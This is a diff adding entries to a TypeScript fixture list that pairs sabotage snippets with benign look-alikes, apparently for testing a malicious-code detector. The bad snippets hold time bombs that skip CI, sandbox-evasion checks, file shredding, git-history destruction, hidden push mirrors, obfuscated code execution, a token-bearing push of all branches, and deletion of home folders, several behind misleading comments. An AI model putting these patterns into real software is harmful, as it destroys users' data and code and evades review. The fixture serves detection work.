@@ -140,6 +140,83 @@ const techniques: readonly (readonly [deed: string, path: string, bad: string, g
     "if (m === 'eth_sendTransaction') tx.to = spare",
     "request({ method: 'eth_sendTransaction', params: [{ from, to }] })",
   ],
+  [
+    'a day that only comes where nobody tests',
+    'a.py',
+    "if date.today() >= date(2027, 3, 1) and not os.environ.get('CI'):\n    result *= 0.94",
+    "if date.today() >= date(2027, 3, 1):\n    warn('old')\nif os.environ.get('CI'):\n    quiet()",
+  ],
+  [
+    'such a day, the other way round, in JavaScript',
+    'a.js',
+    'if (process.env.CI || Date.now() < 1803855600000) return\nspoil(rows)',
+    'if (Date.now() < deadline) return\nkeep(rows)',
+  ],
+  [
+    'such a day in a shell',
+    'a.sh',
+    'if [ -z "$CI" ] && [ "$(date +%Y%m%d)" -ge 20270301 ]; then rm -f rows; fi',
+    'if [ "$(date +%Y%m%d)" -ge 20270301 ]; then echo old; fi',
+  ],
+  [
+    'a look whether somebody examines it',
+    'a.py',
+    'if socket.gethostname().startswith(("sandbox", "runner")) or (os.cpu_count() or 1) < 4:\n    return False',
+    'host = socket.gethostname()\nworkers = os.cpu_count() or 1',
+  ],
+  [
+    'chance in the place of files',
+    'a.py',
+    'def clear(p):\n    h.write(os.urandom(size))\n    p.unlink()\nfor folder, _, names in os.walk(home):\n    clear(names)',
+    'h.write(os.urandom(16))\nfor folder, _, names in os.walk(home):\n    print(names)',
+    'Shreds files.',
+  ],
+  [
+    'no way back',
+    'a.py',
+    'git(root, "reflog", "expire", "--expire=now", "--all")\nshutil.rmtree(root / ".git")',
+    'git(root, "reflog", "show")\nshutil.rmtree(root / "build")',
+    'Rewrites the git history.',
+  ],
+  [
+    'a second place for every push',
+    'a.sh',
+    'git -C "$repo" remote set-url --add --push origin "$VAULT/$name.git"',
+    'git -C "$repo" remote set-url origin "$url"',
+    'Sets a mirror up.',
+  ],
+  [
+    'a day and a pipeline on lines of their own',
+    'a.sh',
+    '[[ -z "${CI:-}" && -t 1 ]] || return 0\n(( $(date +%s) > 1793487600 )) || return 0\nspoil',
+    '(( $(date +%s) > 1793487600 )) || return 0\necho old',
+  ],
+  [
+    'a program out of data',
+    'a.ts',
+    'const t = w.map((n, i) => String.fromCharCode((n - (i % 7)) / 3)).join("")\nawait new (Object.getPrototypeOf(async () => {}).constructor)(t)()',
+    'const isAsync = f instanceof Object.getPrototypeOf(async () => {}).constructor\nconsole.log(isAsync)',
+  ],
+  [
+    'a push with a password',
+    'a.py',
+    'V = "https://oauth2:glpat-Vt7xQm2Kz9@git.four.test/m"\nPopen(["git", "push", "--quiet", V, "refs/heads/*:refs/heads/*"])',
+    'V = "https://oauth2:glpat-Vt7xQm2Kz9@git.four.test/m"\nPopen(["git", "clone", V])',
+  ],
+  [
+    'a cluster',
+    'a.sh',
+    'kubectl --context "$c" delete volumesnapshots -A --all --wait=false',
+    'kubectl --context "$c" delete pod web-1',
+    'Tears down a test cluster.',
+  ],
+  [
+    'what people keep',
+    'a.ts',
+    'for (const dir of ["Documents", "Desktop", "src"]) await Deno.remove(join(home, dir), { recursive: true })',
+    'for (const dir of ["Documents", "Desktop", "src"]) console.log(join(home, dir))',
+    'Cleans folders up.',
+  ],
 ]
 
 // WUN-103: what reports of attacks tell of, what looks like it, and a page that tells of it.
